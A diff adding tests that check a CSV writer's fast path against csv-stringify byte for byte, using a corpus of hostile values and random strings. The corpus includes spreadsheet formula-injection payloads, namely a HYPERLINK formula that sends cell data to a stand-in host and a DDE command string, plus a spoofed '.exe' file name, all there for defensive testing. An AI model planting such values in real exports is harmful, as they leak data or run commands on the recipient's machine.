@@ -99,6 +99,57 @@ describe('CsvFileWriter', () => {
   });
 });
 
+/** The hostile-values corpus (hostile-values.ts, bad-input-corpus.test.ts) and what SIS exports hold: every kind of value the fast path must encode as csv-stringify does. */
+const HOSTILE = [
+  '=HYPERLINK("http://x.example/?"&A1,"Click")', '@SUM(1+1)', "+cmd|' /C calc'!A0", '-5', '+1 (555) 010-0199', '\t=1+1', '\r=1',
+  'Ann\u0000', 'Bo\u001b[31m', '\u202Egpj.exe', 'Rodr\uFFFDguez', 'RodrÃ­guez', '000101', '003', '0', '00', ' 007 ', '',
+  'a;b', 'G1,G2', '"quoted"', 'say ""hi""', 'trailing\r', '\nleading', 'mid\r\nline', '\u00e9t\u00e9', '\u6771\u4eac',
+  '\u{1F600} smile', '\ud83d lone high', 'lone low \ude00', '\u0085 NEL', '\u2028 LS', 'tab\there', '|', ';', '\t', ',',
+];
+
+/** A random string of the characters that matter to quoting and UTF-8, from a seeded generator. */
+function randomValue(next: () => number): string {
+  const pieces = [',', ';', '|', '\t', '"', '\r', '\n', ' ', '0', '7', 'a', 'Z', '=', '+', '-', '@', '\u00e9', '\u20ac', '\u6771', '\u{1F600}', '\ud800', '\udfff', '\u0000', '\u007f'];
+  const length = next() % 12;
+  let s = '';
+  for (let i = 0; i < length; i++) s += pieces[next() % pieces.length]!;
+  return s;
+}
+
+describe('CsvFileWriter fast path (byte scan into the output Buffer) against csv-stringify', () => {
+  const dialects: Dialect[] = [
+    { delimiter: ',', quoting: 'auto', lineEnding: '\r\n', bom: false, header: true },
+    { delimiter: ',', quoting: 'auto', lineEnding: '\n', bom: true, header: true },
+    { delimiter: '\t', quoting: 'auto', lineEnding: '\r\n', bom: false, header: false },
+    { delimiter: '|', quoting: 'never', lineEnding: '\n', bom: false, header: true },
+    { delimiter: ';', quoting: 'always', lineEnding: '\r\n', bom: true, header: true },
+    { delimiter: '||', quoting: 'auto', lineEnding: '\n', bom: false, header: true },
+    { delimiter: '\u00a7', quoting: 'auto', lineEnding: '\n', bom: false, header: true },
+  ];
+  for (const dialect of dialects) {
+    it(`hostile values and random strings, byte for byte (${JSON.stringify(dialect)})`, async () => {
+      let x = 0x2545f491 ^ dialect.delimiter.charCodeAt(0);
+      const next = (): number => {
+        x ^= x << 13;
+        x ^= x >>> 17;
+        x ^= x << 5;
+        return x >>> 0;
+      };
+      const header = ['sourcedId', 'a,b', 'name'];
+      const rows: string[][] = HOSTILE.map((v, i) => [v, HOSTILE[(i * 7) % HOSTILE.length]!, `row ${i}`]);
+      for (let i = 0; i < 20000; i++) rows.push([randomValue(next), randomValue(next), randomValue(next)]);
+      // Values longer than the output chunk (64 KiB), plain and needing quotes.
+      rows.push(['x'.repeat(70000), '\u6771'.repeat(30000), 'p,q'.repeat(30000)]);
+      rows.push(['"'.repeat(40000), 'y', 'z']);
+      const got = await writeWith(dialect, header, rows);
+      const want = expected(dialect, header, rows);
+      expect(got.text.length).toBe(want.length);
+      expect(got.text.equals(want)).toBe(true);
+      expect(got.sha256).toBe(createHash('sha256').update(want).digest('hex'));
+    });
+  }
+});
+
 describe('neutraliseFormulas', () => {
   const dialect: Dialect = { delimiter: ',', quoting: 'auto', lineEnding: '\n', bom: false, header: true };
 
